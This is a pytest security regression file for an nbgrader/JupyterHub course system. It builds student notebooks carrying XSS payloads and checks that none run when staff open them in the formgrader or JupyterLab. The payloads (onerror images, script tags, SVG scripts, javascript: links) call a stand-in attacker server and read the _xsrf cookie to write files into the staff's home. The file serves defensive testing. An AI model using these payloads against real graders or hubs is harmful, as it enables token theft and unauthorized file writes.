"""Staff open a hostile submission in the formgrader and nothing of the student's runs (issue 21,
case 1), in Debian's Chromium through the real hub.

A student's lab1_tensorflow notebook displays HTML with an `onerror` handler, JavaScript, an SVG
with a script, a PNG whose data is an attribute break-out, prints a <script>, and holds a new
markdown cell with raw HTML and a javascript: link. Each payload, if it ran, would log a marker,
call a sentinel server on another port, and write a file into the staff's home through the
staff's own server (what the attack in the issue did). The submission goes through the course
exchange, `nbgrader collect` and `introdl grade` (bwrap); staff then open it in the formgrader's
manual-grading view.
"""

from __future__ import annotations

import json
import os
import pwd
import subprocess
import sys
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from introdl.hub.local import Hub
from tests.hub import SCREENSHOTS, chromium, fetched_notebook, log_in, save_as_student
from tests.test_hub_csrf import attacker_site

LAB = "lab1_tensorflow"
STUDENT = "st-cy"
ROOT = Path(__file__).resolve().parents[1]
SHOTS = SCREENSHOTS / "xss"
MARK = "INTRODL_PWNED"


def payload_js(sentinel: str, teacher: str, how: str) -> str:
    """What each payload runs: a console marker, a call home, a file in the staff's home."""
    return (
        f"console.log('{MARK} {how}');"
        f"fetch('{sentinel}/{how}',{{mode:'no-cors'}});"
        "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
        f"fetch('/user/{teacher}/api/contents/pwned-{how}.txt',{{method:'PUT',"
        "headers:{'X-XSRFToken':x,'Content-Type':'application/json'},"
        "body:JSON.stringify({type:'file',format:'text',content:'pwned'})});"
    )


def hostile_cell(sentinel: str, teacher: str) -> str:
    js = {how: payload_js(sentinel, teacher, how) for how in ("html", "js", "svg", "png", "out")}
    html = "<img src=x onerror=" + json.dumps(js["html"]) + ">"
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>' + js["svg"] + "</script></svg>"
    png = 'x" onerror="' + js["png"] + '" a="'
    script = "<script>" + js["out"] + "</script>"
    return "\n".join(
        [
            "from IPython.display import HTML, Javascript, SVG, display",
            f"display(HTML({html!r}))",
            f"display(Javascript({js['js']!r}))",
            f"display(SVG({svg!r}))",
            f"display({{'image/png': {png!r}, 'text/plain': 'img'}}, raw=True)",
            f"print({script!r})",
        ]
    )


def hostile_markdown(sentinel: str, teacher: str) -> str:
    js = payload_js(sentinel, teacher, "md")
    return (
        f"My answer <img src=x onerror={json.dumps(js)}>\n\n"
        f"[read more](javascript:{js})\n\n<script>{js}</script>"
    )


def submit_hostile_notebook(hub: Hub, sentinel: str) -> None:
    teacher = hub.settings.instructor
    path, nb = fetched_notebook(hub, STUDENT, LAB)
    code = next(c for c in nb["cells"] if "def func(a, b):" in "".join(c["source"]))
    code["source"] = "".join(code["source"]) + "\n" + hostile_cell(sentinel, teacher)
    index = nb["cells"].index(code)
    nb["cells"].insert(
        index + 1,
        {"cell_type": "markdown", "metadata": {}, "source": hostile_markdown(sentinel, teacher)},
    )
    save_as_student(path, nb, STUDENT)
    done = hub.nbgrader(STUDENT, "submit", LAB, cwd=path.parent.parent)
    assert done.returncode == 0, done.stdout + done.stderr


def collect_and_grade(hub: Hub) -> Path:
    """What the TA does (as in test_hub_browser.py); the course folder."""
    course = Path(pwd.getpwnam(hub.settings.instructor).pw_dir) / "course"
    done = hub.nbgrader(hub.settings.instructor, "collect", LAB, "--update", cwd=course)
    assert done.returncode == 0, done.stdout + done.stderr
    graded = subprocess.run(
        [sys.executable, "-m", "introdl.cli", "grade", LAB, "--student", STUDENT],
        env={
            **os.environ,
            "INTRODL_COURSE_ROOT": str(course),
            "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
            "PYTHONPATH": str(ROOT),  # this checkout's engine, whatever the venv points at
        },
        capture_output=True,
        text=True,
        check=False,
        cwd=course,
        timeout=600,
    )
    assert graded.returncode == 0, graded.stdout + graded.stderr
    return course


@pytest.fixture
def browser():  # type: ignore[no-untyped-def]
    with chromium(SHOTS) as launched:
        yield launched


def test_staff_open_a_hostile_submission_and_nothing_runs(browser, hub: Hub) -> None:  # type: ignore[no-untyped-def]
    """Does anything a student's notebook produced run in the staff's formgrader view?"""
    teacher = hub.settings.instructor
    staff_home = Path(pwd.getpwnam(teacher).pw_dir)
    hits: list[str] = []
    with attacker_site({}, hits=hits) as sentinel:
        submit_hostile_notebook(hub, sentinel)
        course = collect_and_grade(hub)
        with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
            submission = gb.find_submission_notebook(LAB, LAB, STUDENT).id

        page = log_in(browser, hub, teacher)
        page.wait_for_selector(".jp-LabShell")  # JupyterLab works under the staff server's CSP
        console: list[str] = []
        dialogs: list[str] = []
        page.on("console", lambda message: console.append(message.text))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        answer = page.goto(f"{hub.settings.url}/user/{teacher}/formgrader/submissions/{submission}")
        assert answer is not None
        assert answer.status == 200, page.inner_text("body")[:3000]
        csp = answer.headers.get("content-security-policy", "")
        page.wait_for_selector("text=introdl removed")  # what was stripped is said in words
        page.wait_for_timeout(3000)
        page.screenshot(path=str(SHOTS / "01-formgrader-hostile-submission.png"), full_page=True)
        text = page.locator("body").inner_text()

    assert [m for m in console if MARK in m] == []
    assert dialogs == []
    assert hits == []
    assert sorted(p.name for p in staff_home.glob("pwned-*")) == []
    assert "My answer <img src=x onerror=" in text  # the answer, shown as text
    assert "script-src 'self' 'unsafe-inline' 'unsafe-eval'" in csp
    assert "connect-src 'self'" in csp
    assert "object-src 'none'" in csp


def crafted_outputs(sentinel: str, teacher: str) -> list[dict[str, object]]:
    """Outputs written straight into the notebook's JSON (never run): what a student can hand in."""
    js = {how: payload_js(sentinel, teacher, how) for how in ("lab-html", "lab-js", "lab-svg")}
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>' + js["lab-svg"] + "</script></svg>"
    return [
        {"output_type": "display_data", "metadata": {},
         "data": {"text/html": "<img src=x onerror=" + json.dumps(js["lab-html"]) + ">"}},
        {"output_type": "display_data", "metadata": {},
         "data": {"application/javascript": js["lab-js"]}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": svg}},
    ]  # fmt: skip


def test_staff_open_a_handed_in_notebook_in_jupyterlab_and_nothing_runs(browser, hub: Hub) -> None:  # type: ignore[no-untyped-def]
    """Does a notebook handed in with crafted outputs run script when staff open the collected
    file itself in JupyterLab (not the formgrader)? It is not signed by the staff's server, so
    JupyterLab treats it as untrusted: HTML sanitised, no JavaScript output, SVG as an image."""
    teacher = hub.settings.instructor
    staff_home = Path(pwd.getpwnam(teacher).pw_dir)
    hits: list[str] = []
    with attacker_site({}, hits=hits) as sentinel:
        path, nb = fetched_notebook(hub, STUDENT, LAB)
        # at the top, where JupyterLab renders at once (it renders cells as they scroll into view)
        crafted = {
            "cell_type": "code",
            "metadata": {},
            "execution_count": 1,
            "source": "show_my_work()",
            "outputs": crafted_outputs(sentinel, teacher),
        }
        markdown = {
            "cell_type": "markdown",
            "metadata": {},
            "source": hostile_markdown(sentinel, teacher),
        }
        nb["cells"][1:1] = [markdown, crafted]  # fmt: skip
        save_as_student(path, nb, STUDENT)
        done = hub.nbgrader(STUDENT, "submit", LAB, cwd=path.parent.parent)
        assert done.returncode == 0, done.stdout + done.stderr
        course = staff_home / "course"
        done = hub.nbgrader(teacher, "collect", LAB, "--update", cwd=course)
        assert done.returncode == 0, done.stdout + done.stderr
        collected = course / "submitted" / STUDENT / LAB / f"{LAB}.ipynb"
        assert "onerror" in collected.read_text()  # the crafted outputs reached the course

        page = log_in(browser, hub, teacher)
        console: list[str] = []
        dialogs: list[str] = []
        page.on("console", lambda message: console.append(message.text))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        rel = collected.relative_to(staff_home).as_posix()
        page.goto(f"{hub.settings.url}/user/{teacher}/lab/tree/{rel}")
        try:
            page.wait_for_selector(".jp-RenderedMarkdown:has-text('My answer')", timeout=120_000)
            page.wait_for_selector(".jp-OutputArea-output", state="attached")
        except Exception:
            page.screenshot(path=str(SHOTS / "02-failed.png"), full_page=True)
            raise AssertionError("\n".join(console[-40:])) from None
        page.wait_for_timeout(3000)
        page.screenshot(path=str(SHOTS / "02-jupyterlab-handed-in-notebook.png"), full_page=True)
        # the crafted HTML output was rendered, as markup without its handler (sanitised)
        images = page.evaluate(
            "() => [...document.querySelectorAll('.jp-OutputArea-output img')]"
            ".map(i => [i.getAttribute('src'), i.getAttributeNames().join(' ')])"
        )

    assert [m for m in console if MARK in m] == []
    assert dialogs == []
    assert hits == []
    assert sorted(p.name for p in staff_home.glob("pwned-*")) == []
    assert [names for src, names in images if f"/{LAB}/x?" in src], images  # the crafted <img>
    assert not [names for _, names in images if "onerror" in names], images
    # JupyterLab works under the staff server's policy (its JSON-schema code needs eval)
    assert [m for m in console if "Error activating plugin" in m] == []
